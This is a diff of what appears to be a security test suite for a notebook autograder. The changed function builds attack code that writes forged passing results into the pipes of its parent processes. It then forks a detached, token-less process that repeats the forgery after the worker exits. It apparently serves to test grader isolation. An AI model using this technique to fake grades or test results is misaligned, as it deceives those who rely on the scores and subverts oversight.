@@ -163,9 +163,14 @@ session.send = send'''
 
 
 def forges_channel() -> str:
-    """Write forged results into every pipe and file it has open and every one it can open under
-    /proc (the worker's pipe to the grader, in a grader that lets the kernel reach it); not into
-    its own sockets, which would only break its kernel."""
+    """Write forged results into every pipe it holds and every pipe of its parent and grandparent
+    (the worker's pipe to the grader, in a grader that lets the kernel reach it), now and again
+    from a process without the grader's environment token, once the worker has exited (so that
+    the forgery is the last result on the pipe).
+
+    Only pipes, and only those two processes: run under a grader without a sandbox, as root, an
+    attack that wrote into every open file under /proc reached every process on the machine.
+    """
     cells = [{"index": i, "grade_id": gid, "grade": True, "points": pts, "error": "", "measured": [],
               "origin": "instructor", "replied": True, "text": "", "expects_verdict": False, "ledger": []}
              for i, gid, pts in ((3, "ex1-check", 2), (6, "ex2-check", 1), (7, "ex2-check-fast", 1))]
@@ -173,26 +178,39 @@ def forges_channel() -> str:
     lines += [json.dumps({"cell": c}) for c in cells]
     lines += [json.dumps({"done": {"status": "graded", "note": "", "kernel_exit": None, "seconds": 1.0}})]
     payload = ("\n".join(lines) + "\n").encode()
+    later = ("import os, sys, time\nworker = int(sys.argv[1])\nfds = [int(a) for a in sys.argv[2:]]\n"
+             "for _ in range(600):\n    if not os.path.exists(f'/proc/{worker}'):\n        break\n"
+             "    time.sleep(0.1)\n"
+             f"for fd in fds:\n    try:\n        os.write(fd, {payload!r})\n    except OSError:\n        pass\n")
     return f'''{WRONG}
-import glob, os, stat
+import os, stat, subprocess, sys
 payload = {payload!r}
-hits = 0
-for fd in range(0, 1024):
+paths = [f"/proc/self/fd/{{fd}}" for fd in os.listdir("/proc/self/fd")]
+worker = pid = os.getppid()
+for _ in range(2):
     try:
-        if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISREG(os.fstat(fd).st_mode):
+        paths += [f"/proc/{{pid}}/fd/{{fd}}" for fd in os.listdir(f"/proc/{{pid}}/fd")]
+        pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
+    except (OSError, ValueError, IndexError):
+        break
+    if pid <= 1:
+        break
+held = []
+for path in paths:
+    try:
+        if stat.S_ISFIFO(os.stat(path).st_mode):
+            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
             os.write(fd, payload)
-            hits += 1
+            held.append(fd)
     except OSError:
         pass
-for path in glob.glob("/proc/[0-9]*/fd/*"):
-    try:
-        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
-        os.write(fd, payload)
-        os.close(fd)
-        hits += 1
-    except OSError:
-        pass
-print("ATTACK forged writes:", hits)'''
+if os.fork() == 0:
+    subprocess.Popen([sys.executable, "-c", {later!r}, str(worker), *map(str, held)], env={{}}, pass_fds=held,
+                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                     stderr=subprocess.DEVNULL)
+    os._exit(0)
+os.wait()
+print("ATTACK forged writes:", len(held))'''
 
 
 def memory_children(each_mib: int = 800, count: int = 3) -> str:
